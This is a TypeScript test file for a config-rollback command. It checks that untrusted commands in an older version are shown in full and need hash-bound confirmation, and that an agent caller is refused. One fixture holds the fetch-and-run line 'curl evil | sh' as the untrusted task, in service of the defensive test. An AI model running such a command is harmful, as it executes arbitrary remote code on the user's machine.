import { expect, test } from 'vitest';
import type { Restorable } from '../../../src/commands/define.ts';
import { rollbackConfig } from '../../../src/commands/settings/rollback-config.ts';
import { openDesk } from '../../helpers/desk.ts';

const FILE = '/r/.drover/config.json';
const configuration = {
  layers: [],
  files: { project: FILE, user: '/home/ada/.config/drover.json' },
  change: () => expect.unreachable('nothing is set'),
};
const withheld = { hash: 'abc', asked: { checks: { task: 'curl evil | sh' } }, trusted: { checks: { task: 'make' } } };

/** A repository whose version before this is that, and what is gone back to. */
const atVersion = (found: Restorable | undefined) => {
  const restored: [number, string | undefined][] = [];
  const place = { found };
  const settingHistory = {
    list: () => expect.unreachable('nobody asks for it'),
    inspect: async () => place.found,
    restore: async (version: number, hash: string | undefined) => {
      restored.push([version, hash]);
      return true;
    },
  };
  const trust = {
    review: async () => undefined,
    powers: () => expect.unreachable('nobody asks for it'),
    accept: () => expect.unreachable('going back is no yes to what the file says now'),
    revoke: () => expect.unreachable('nothing is revoked'),
  };
  return { place, restored, desk: openDesk(rollbackConfig, [], { configuration, settingHistory, trust }) };
};

test('[CFG-2] a version that runs and allows nothing new is gone back to at once', async () => {
  const { desk, restored } = atVersion({ version: 3 });
  expect(await desk.propose('rollback config')).toMatchObject({
    exit: 0,
    message: `${FILE} is what it was at version 3.`,
    data: { version: 3, changed: true, untrusted: [] },
    sideEffects: [`${FILE} written`],
  });
  expect(await desk.propose('rollback config version=3')).toMatchObject({ exit: 0 });
  expect(restored).toEqual([
    [3, undefined],
    [3, undefined],
  ]);
});

test('[CFG-2] what a version would run and is not trusted is shown in full; a yes to whatever it may be is not enough', async () => {
  const { desk, restored, place } = atVersion({ version: 2, withheld });
  for (const say of [desk.propose, desk.say])
    expect(await say('rollback config')).toMatchObject({
      exit: 5,
      hint: 'Read it. If it may do that: drover config rollback 2 --trust abc',
      confirm: { targets: ['checks.task'], loses: expect.stringContaining('+ checks.task (runs): "curl evil | sh"') },
    });
  const { confirm } = await desk.propose('rollback config');
  place.found = { version: 2, withheld: { ...withheld, hash: 'other' } };
  expect((await desk.propose(`rollback config confirm=${confirm!.token}`)).exit).toBe(5);
  expect(restored).toEqual([]);
  place.found = { version: 2, withheld };
  expect(await desk.propose(`rollback config confirm=${confirm!.token}`)).toMatchObject({ exit: 0 });
  expect(await desk.propose('rollback config version=2 hash=abc')).toMatchObject({ exit: 0 });
  expect(restored).toEqual([
    [2, 'abc'],
    [2, 'abc'],
  ]);
});

test('[CFG-2] without a version there is nothing to go back to, and an agent goes back to nothing', async () => {
  expect(await atVersion(undefined).desk.say('rollback config')).toMatchObject({ exit: 6 });
  const { desk, restored } = atVersion({ version: 2 });
  expect((await desk.sayAs('claude-1', 'rollback config version=2 hash=abc')).exit).toBe(4);
  expect(restored).toEqual([]);
});
